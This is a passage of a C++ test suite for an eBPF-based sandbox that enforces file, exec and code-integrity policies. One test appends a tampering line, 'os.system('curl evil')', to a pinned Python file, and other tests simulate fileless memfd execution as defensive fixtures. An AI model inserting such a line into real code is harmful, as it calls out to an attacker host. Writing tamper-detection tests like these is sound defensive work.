        for (const char* d : {"in", "out"}) {
            fs::remove_all(dir_ / d);
            fs::create_directory(dir_ / d);
            std::ofstream(dir_ / d / "file") << "data";
            fs::permissions(dir_ / d / "file", fs::perms(0644));
            fs::create_directory(dir_ / d / "dir");
        }
    }
    FunctionPolicy op_policy(ViolationAction action) const {
        FunctionPolicy p = policy(action);
        const std::string in = (dir_ / "in").string() + "/**";
        p.files.read.push_back(dir_.string() + "/**");
        p.files.write.push_back(in);
        p.files.create.push_back(in);
        p.files.remove.push_back(in);
        return p;
    }
    std::vector<std::string> steps(const std::string& d) const {
        return {"chdir:" + (dir_ / "alias").string(), GetParam().step(d)};
    }
    static std::string op_of(const fnw_file_event& ev) {
        auto json = event_to_json(std::as_bytes(std::span(&ev, 1)), EventContext{}, WallClock(0));
        return json ? json->at("file").value("op", "") : "undecodable";
    }
};

TEST_P(FileOpTest, OutsideTheAllowlistInAuditIsOneViolationWithItsOpAndCanonicalPath) {
    const FileOp& op = GetParam();
    auto s = steps("out");
    s.push_back("exit-errno");
    auto r = run_workload(op_policy(ViolationAction::Kill), Mode::Audit, s, {.use_landlock = false});
    EXPECT_EQ(r.outcome.exit_code, 0) << "audit never acts: the " << op.name << " succeeded";
    EXPECT_TRUE(op.happened(dir_ / "out"));
    auto v = accesses(r, FNW_VERDICT_VIOLATION);
    ASSERT_EQ(v.size(), 1u) << describe(r.file_events);
    EXPECT_EQ(v[0].nr, static_cast<uint32_t>(op.nr));
    EXPECT_EQ(op_of(v[0]), op.name);
    EXPECT_EQ(raw(v[0]), std::string("out/") + op.object) << "as the function spelt it";
    EXPECT_EQ(event_path(v[0]).path, (dir_ / "out" / op.object).string()) << "the cwd the kernel resolved";
    EXPECT_EQ(v[0].access, op.access);
    EXPECT_EQ(v[0].missing, op.access);
    EXPECT_EQ(v[0].action, FNW_ACTION_REPORTED);
    EXPECT_EQ(v[0].hdr.cgroup_id, r.outcome.cgroup_id);
}

TEST_P(FileOpTest, InsideTheAllowlistItHappensAndSendsNoViolation) {
    const FileOp& op = GetParam();
    auto s = steps("in");
    s.push_back("exit-errno");
    auto r = run_workload(op_policy(ViolationAction::Deny), Mode::Enforce, s, {.use_landlock = false});
    EXPECT_EQ(r.outcome.exit_code, 0);
    EXPECT_TRUE(op.happened(dir_ / "in"));
    EXPECT_TRUE(accesses(r, FNW_VERDICT_VIOLATION).empty()) << describe(r.file_events);
}

// docs/enforcement.md, deny: refused with EPERM where its BPF-LSM hook runs
// (the VM lane), else a kill: at sys_exit in the kernel for an open; for the
// rest the kernel holds the process at sys_exit and fnwarden's verdict kills
// it (no waiting here: it exits right after unless it never returned).
// Without LSM the operation has happened.
TEST_P(FileOpTest, OutsideTheAllowlistInEnforceIsRefusedOrKilled) {
    const FileOp& op = GetParam();
    auto s = steps("out");
    s.insert(s.end(), {"exit-on-error", "exit:0"});
    auto r = run_workload(op_policy(ViolationAction::Deny), Mode::Enforce, s, {.use_landlock = false});
    auto v = accesses(r, FNW_VERDICT_VIOLATION);
    ASSERT_EQ(v.size(), 1u) << describe(r.file_events);
    EXPECT_EQ(v[0].nr, static_cast<uint32_t>(op.nr));
    EXPECT_EQ(event_path(v[0]).path, (dir_ / "out" / op.object).string());
    if (op.lsm_hook && probes_->lsm_hook_loaded(op.lsm_hook)) {
        EXPECT_EQ(r.outcome.exit_code, EPERM);
        EXPECT_FALSE(op.happened(dir_ / "out")) << "refused before it happened";
        EXPECT_EQ(v[0].action, FNW_ACTION_DENIED);
        EXPECT_EQ(v[0].mechanism, FNW_MECH_BPF_LSM);
        return;
    }
    EXPECT_EQ(r.outcome.term_signal.value_or(0), SIGKILL) << "exit " << r.outcome.exit_code;
    EXPECT_TRUE(op.happened(dir_ / "out")) << "nothing here refuses: it happened, then the process died";
    EXPECT_EQ(v[0].action, FNW_ACTION_KILLED);
    const bool open = op.nr == SYS_creat || op.nr == SYS_openat2;
    // Issue 21: not an open, so fnwarden decides, but the process was held
    // at the syscall's exit until then: it never returned to user space.
    EXPECT_EQ(v[0].mechanism, open ? FNW_MECH_SIGKILL : FNW_MECH_HELD_KILL)
        << (open ? "an open the kernel decides by inode" : "not an open: decided by fnwarden while held");
}

INSTANTIATE_TEST_SUITE_P(EveryOp, FileOpTest, ::testing::ValuesIn(kFileOps),
                         [](const ::testing::TestParamInfo<FileOp>& info) { return std::string(info.param.name); });

// ---- exec, at sched_process_exec ------------------------------------------

class ExecProbeTest : public FileProbeTest {
protected:
    static FunctionPolicy exec_policy(std::vector<std::string> allow, ViolationAction action) {
        FunctionPolicy p = policy_denying({}, ViolationAction::Report);
        p.exec.restricted = true;
        p.exec.allow = std::move(allow);
        p.exec.on_violation = action;
        return p;
    }
    // From sched_process_exec, or from lsm/bprm_check_security where
    // BPF-LSM runs (a literal allowlist is then refused before the exec).
    static std::vector<fnw_file_event> execs(const Run& r) {
        std::vector<fnw_file_event> out;
        for (const auto& ev : r.file_events)
            if (ev.nr == FNW_NR_EXEC || ev.nr == FNW_NR_LSM_EXEC) out.push_back(ev);
        return out;
    }
    // The LSM hook reports bpf_d_path's result in `path`.
    static std::string program(const fnw_file_event& ev) {
        return ev.nr == FNW_NR_LSM_EXEC ? std::string(ev.path) : event_path(ev).path;
    }
};

TEST_F(ExecProbeTest, ExecOutsideTheAllowlistIsReportedWithTheProgramTheKernelRan) {
    // /bin is a symlink to usr/bin on Debian: the kernel runs /usr/bin/true.
    auto r = sh(exec_policy({"/usr/bin/dash"}, ViolationAction::Report), Mode::Audit, "/bin/true one 'two words'; :");
    ASSERT_EQ(r.outcome.exit_code, 0);
    auto v = execs(r);
    ASSERT_EQ(v.size(), 1u) << describe(v);
    EXPECT_EQ(v[0].verdict, FNW_VERDICT_VIOLATION);
    EXPECT_EQ(program(v[0]), fs::canonical("/bin/true").string());
    EXPECT_EQ(v[0].action, FNW_ACTION_REPORTED);
    if (!probes_->lsm_available()) {
        EXPECT_EQ(raw(v[0]), "/bin/true");
        EXPECT_EQ(v[0].missing, uint32_t{FNW_FILE_EXEC});
        EXPECT_EQ(v[0].object_flags, 0u);
        // argv as the new image got it, read from its stack at sched_process_exec.
        const char want[] = "/bin/true\0one\0two words\0";
        ASSERT_EQ(v[0].argv_len, sizeof(want) - 1);
        EXPECT_EQ(std::string(v[0].argv, v[0].argv_len), std::string(want, sizeof(want) - 1));
        EXPECT_EQ(v[0].path2_truncated, 0);
    }
}

// The shell runs from the test's tmpfs, so exec.allow names an inode stat()
// and the kernel agree on, on every host: the kernel decides the exec.
TEST_F(ExecProbeTest, KillActionKillsTheNewImageBeforeItRuns) {
    const auto shell = dir_ / "sh";
    fs::copy_file(fs::canonical("/bin/sh"), shell);
    fs::permissions(shell, fs::perms::owner_all);
    const std::string out = (dir_ / "status").string();
    auto r = run(exec_policy({shell.string()}, ViolationAction::Kill), Mode::Enforce,
                 {shell.string(), "-c", "/bin/true; echo $? >" + out}, {.use_landlock = false});
    ASSERT_EQ(r.outcome.exit_code, 0);
    auto v = execs(r);
    ASSERT_EQ(v.size(), 1u) << describe(v);
    EXPECT_EQ(program(v[0]), fs::canonical("/bin/true").string());
    std::string status;
    std::ifstream(out) >> status;
    if (probes_->lsm_available()) {
        // Refused before the exec (the shell's child fails with "permission
        // denied", 126), then killed by fnwarden as `kill` asks: after the
        // refusal, asynchronously, so the child may have exited first. The
        // record says what happened last: denied when the child got away
        // (126), killed when fnwarden's kill reached it (137).
        EXPECT_EQ(v[0].mechanism, FNW_MECH_BPF_LSM);
        ASSERT_TRUE(status == "126" || status == "137") << status;
        EXPECT_EQ(v[0].action, status == "126" ? FNW_ACTION_DENIED : FNW_ACTION_KILLED) << status;
        return;
    }
    EXPECT_EQ(v[0].action, FNW_ACTION_KILLED);
    EXPECT_EQ(v[0].mechanism, FNW_MECH_SIGKILL) << "decided in the kernel, at sched_process_exec";
    EXPECT_EQ(status, "137") << "true died of SIGKILL, before its first instruction";
}

// A glob implies no ELF interpreter: the loader is listed (a glob too), or
// dash's exec would be an interpreter violation (Landlock refuses it).
TEST_F(ExecProbeTest, GlobAllowlistsAreDecidedInUserspace) {
    auto r = sh(exec_policy({"/usr/bin/da*", "/usr/lib/x86_64-linux-gnu/ld-linux-*"}, ViolationAction::Report),
                Mode::Audit, "/usr/bin/dash -c :; /bin/true; :");
    ASSERT_EQ(r.outcome.exit_code, 0);
    auto v = execs(r);
    ASSERT_EQ(v.size(), 1u) << describe(v);
    EXPECT_EQ(v[0].verdict, FNW_VERDICT_VIOLATION);
    EXPECT_EQ(event_path(v[0]).path, fs::canonical("/bin/true").string());
    EXPECT_GE(counters().file_pending, 2u) << "dash and true both asked userspace";
}

TEST_F(ExecProbeTest, FilelessExecutionIsFlaggedEvenWithoutAnExecSection) {
    FunctionPolicy p = policy_denying({}, ViolationAction::Report);
    auto r = run_workload(p, Mode::Audit, {"memfd-exec:/usr/bin/true"});
    ASSERT_EQ(r.outcome.exit_code, 0);
    auto v = execs(r);
    ASSERT_EQ(v.size(), 1u) << describe(v);
    EXPECT_EQ(v[0].verdict, FNW_VERDICT_VIOLATION);
    EXPECT_EQ(v[0].object_flags, uint32_t{FNW_OBJECT_UNLINKED});
    EXPECT_EQ(event_path(v[0]).path.rfind("/memfd:payload", 0), 0u) << event_path(v[0]).path;
}

TEST_F(ExecProbeTest, AllowedExecsSendNothing) {
    auto r = sh(exec_policy({"/usr/bin/dash", "/usr/bin/true"}, ViolationAction::Kill), Mode::Enforce,
                "/bin/true; /usr/bin/true; :");
    ASSERT_EQ(r.outcome.exit_code, 0);
    EXPECT_TRUE(execs(r).empty()) << describe(execs(r));
}

// ---- exec.allow pinned to a sha256 -----------------------------------------

std::string sha256_hex_of(const std::string& path) {
    UniqueFd fd(::open(path.c_str(), O_RDONLY | O_CLOEXEC));
    auto digest = fd.valid() ? sha256_of_fd(fd.get()) : std::nullopt;
    EXPECT_TRUE(digest) << path;
    return digest ? to_hex(*digest) : std::string();
}

TEST_F(ExecProbeTest, APinnedProgramWhoseContentIsThePinnedOneRuns) {
    auto p = exec_policy({"/usr/bin/dash", "/usr/bin/true"}, ViolationAction::Kill);
    p.exec.sha256["/bin/true"] = sha256_hex_of("/usr/bin/true");  // pinned through the /bin symlink
    auto r = sh(p, Mode::Enforce, "/bin/true && /usr/bin/true");
    EXPECT_EQ(r.outcome.exit_code, 0);
    EXPECT_TRUE(execs(r).empty()) << describe(execs(r));
    EXPECT_GE(counters().file_pending, 2u) << "each exec went to userspace to be hashed";
}

TEST_F(ExecProbeTest, APinnedProgramWithOtherContentIsKilledBeforeItsFirstInstruction) {
    const std::string out = (dir_ / "status").string();
    const auto ran = dir_ / "ran";
    auto p = exec_policy({"/usr/bin/dash", "/usr/bin/touch"}, ViolationAction::Kill);
    p.exec.sha256["/usr/bin/touch"] = sha256_hex_of("/usr/bin/true");  // the wrong content
    auto r = sh(p, Mode::Enforce, "/usr/bin/touch " + ran.string() + "; echo $? >" + out);
    ASSERT_EQ(r.outcome.exit_code, 0);
    auto v = execs(r);
    ASSERT_EQ(v.size(), 1u) << describe(v);
    EXPECT_EQ(v[0].verdict, FNW_VERDICT_VIOLATION);
    EXPECT_EQ(v[0].sha256_check, FNW_SHA256_MISMATCH);
    Sha256 seen{};
    std::memcpy(seen.data(), v[0].sha256, seen.size());
    EXPECT_EQ(to_hex(seen), sha256_hex_of("/usr/bin/touch")) << "the digest of what was executed";
    EXPECT_EQ(v[0].missing, uint32_t{FNW_FILE_EXEC});
    // The path was allowed, so only the hash can refuse it: the kernel
    // holds the new image at sched_process_exec until fnwarden's verdict,
    // which kills it before it ran an instruction (issues 21 and 22).
    EXPECT_EQ(v[0].action, FNW_ACTION_KILLED);
    EXPECT_EQ(v[0].mechanism, FNW_MECH_HELD_KILL);
    EXPECT_FALSE(std::filesystem::exists(ran)) << "touch ran";
    std::string status;
    std::ifstream(out) >> status;
    EXPECT_EQ(status, "137") << "touch died of SIGKILL";
}

// ---- code pins: a bundle's digests of the function's code files -----------

class CodePinTest : public FileProbeTest {
protected:
    void SetUp() override {
        FileProbeTest::SetUp();
        if (IsSkipped() || HasFatalFailure()) return;
        code_ = dir_ / "fn";
        fs::create_directory(code_);
        std::ofstream(code_ / "handler.py") << "print('hello')\n";
        std::ofstream(code_ / "greet.py") << "NAME = 'world'\n";
    }
    // Pins every file of the code directory as it is now; no files section,
    // so only the pins make the probes look at an open.
    FunctionPolicy pinned_policy() const {
        FunctionPolicy p = policy_denying({}, ViolationAction::Report);
        for (const char* name : {"handler.py", "greet.py"})
            p.code_pins.push_back({(code_ / name).string(), sha256_hex_of((code_ / name).string())});
        return p;
    }
    // Records about the code directory's files.
    std::vector<fnw_file_event> code_events(const Run& r) const {
        std::vector<fnw_file_event> out;
        for (const auto& ev : r.file_events)
            if (event_path(ev).path.rfind(code_.string() + "/", 0) == 0) out.push_back(ev);
        return out;
    }
    // The one record about the code directory's files, or a failure naming
    // what came instead.
    std::optional<fnw_file_event> one_code_event(const Run& r) const {
        EXPECT_EQ(r.outcome.exit_code, 0);
        auto v = code_events(r);
        EXPECT_EQ(v.size(), 1u) << describe(v);
        if (v.size() != 1) return std::nullopt;
        return v[0];
    }
    // `cat FILE` under `p` in enforce was stopped at its open by the code
    // check named `check` and killed before it printed a byte.
    void expect_killed_unread(const FunctionPolicy& p, const std::string& file, uint8_t check) {
        auto r = cat(p, Mode::Enforce, file);
        const auto ev = one_code_event(r);
        ASSERT_TRUE(ev);
        EXPECT_EQ(ev->sha256_check, check);
        EXPECT_EQ(ev->verdict, FNW_VERDICT_VIOLATION);
        EXPECT_EQ(ev->action, FNW_ACTION_KILLED);
        EXPECT_EQ(slurp("out"), "");
        EXPECT_EQ(slurp("status"), "137\n");
    }
    static std::string hex(const uint8_t (&digest)[32]) {
        Sha256 bytes{};
        std::memcpy(bytes.data(), digest, bytes.size());
        return to_hex(bytes);
    }
    // `cat FILE`, its output and exit status kept in files.
    Run cat(const FunctionPolicy& p, Mode mode, const std::string& file) {
        return sh(p, mode, "cat " + (code_ / file).string() + " >" + (dir_ / "out").string() + "; echo $? >" +
                               (dir_ / "status").string());
    }
    std::string slurp(const std::string& name) const {
        std::ifstream in(dir_ / name);
        return std::string(std::istreambuf_iterator<char>(in), {});
    }
    fs::path code_;
};

TEST_F(CodePinTest, TheUnchangedCodeIsReadAndNothingIsReported) {
    auto r = cat(pinned_policy(), Mode::Enforce, "handler.py");
    ASSERT_EQ(r.outcome.exit_code, 0);
    EXPECT_EQ(slurp("status"), "0\n");
    EXPECT_EQ(slurp("out"), "print('hello')\n");
    EXPECT_TRUE(code_events(r).empty()) << describe(code_events(r));
    EXPECT_GE(counters().file_pending, 1u) << "the open went to userspace to be hashed";
}

TEST_F(CodePinTest, AnAppendedLineIsKilledAtItsFirstReadAndReportedWithBothDigests) {
    const FunctionPolicy p = pinned_policy();
    const std::string pinned = sha256_hex_of((code_ / "handler.py").string());
    std::ofstream(code_ / "handler.py", std::ios::app) << "import os; os.system('curl evil')\n";
    auto r = cat(p, Mode::Enforce, "handler.py");
    const auto ev = one_code_event(r);
    ASSERT_TRUE(ev);
    EXPECT_EQ(ev->verdict, FNW_VERDICT_VIOLATION);
    EXPECT_TRUE(ev->object_flags & FNW_OBJECT_CODE_PINNED);
    EXPECT_EQ(ev->sha256_check, FNW_SHA256_MISMATCH);
    EXPECT_EQ(hex(ev->expected_sha256), pinned);
    EXPECT_EQ(hex(ev->sha256), sha256_hex_of((code_ / "handler.py").string()));
    // Held at the open's end until the hash, then killed: cat never got
    // the fd, so nothing of the changed file came out.
    EXPECT_EQ(ev->action, FNW_ACTION_KILLED);
    EXPECT_EQ(ev->mechanism, FNW_MECH_HELD_KILL);
    EXPECT_EQ(slurp("out"), "");
    EXPECT_EQ(slurp("status"), "137\n");
}

TEST_F(CodePinTest, InAuditTheChangedCodeIsReportedAndRuns) {
    const FunctionPolicy p = pinned_policy();
    std::ofstream(code_ / "greet.py", std::ios::app) << "NAME = 'mallory'\n";
    auto r = cat(p, Mode::Audit, "greet.py");
    const auto ev = one_code_event(r);
    ASSERT_TRUE(ev);
    EXPECT_EQ(ev->sha256_check, FNW_SHA256_MISMATCH);
    EXPECT_EQ(ev->action, FNW_ACTION_REPORTED);
    EXPECT_EQ(ev->held, 0) << "audit never stops the function";
    EXPECT_EQ(slurp("status"), "0\n");
}

TEST_F(CodePinTest, AFileReplacedByARenameIsCheckedUnderItsPinnedName) {
    const FunctionPolicy p = pinned_policy();
    std::ofstream(dir_ / "evil.py") << "print('evil')\n";
    fs::rename(dir_ / "evil.py", code_ / "handler.py");  // a new inode under the pinned name
    expect_killed_unread(p, "handler.py", FNW_SHA256_MISMATCH);
}

TEST_F(CodePinTest, ACodeDirectoryMadeAgainUnderItsNameIsStillChecked) {
    const FunctionPolicy p = pinned_policy();
    fs::rename(code_, dir_ / "fn.old");  // the pinned directory's inode goes away
    fs::create_directory(code_);
    std::ofstream(code_ / "handler.py") << "print('evil')\n";
    expect_killed_unread(p, "handler.py", FNW_SHA256_MISMATCH);
}

TEST_F(CodePinTest, AFileAddedToTheCodeDirectoryIsNotTheBundlesCode) {
    const FunctionPolicy p = pinned_policy();
    std::ofstream(code_ / "json.py") << "print('shadows the standard library')\n";
    expect_killed_unread(p, "json.py", FNW_SHA256_NOT_PINNED);
}

TEST_F(CodePinTest, AFileInANewSubdirectoryIsCheckedAndAWriteIsNot) {
    const FunctionPolicy p = pinned_policy();
    fs::create_directory(code_ / "__pycache__");
    std::ofstream(code_ / "__pycache__" / "greet.cpython-311.pyc") << "not the pinned code";
    auto r = sh(p, Mode::Enforce,
                "echo log >>" + (code_ / "written.txt").string() + "; cat " +
                    (code_ / "__pycache__" / "greet.cpython-311.pyc").string() + " >/dev/null; echo $? >" +
                    (dir_ / "status").string());
    // One record: the write-only open is the files section's business.
    const auto ev = one_code_event(r);
    ASSERT_TRUE(ev);
    EXPECT_EQ(event_path(*ev).path, (code_ / "__pycache__" / "greet.cpython-311.pyc").string());
    EXPECT_EQ(ev->sha256_check, FNW_SHA256_NOT_PINNED);
    EXPECT_EQ(ev->action, FNW_ACTION_KILLED);
    EXPECT_EQ(slurp("status"), "137\n");
}

}  // namespace
}  // namespace fnw::test
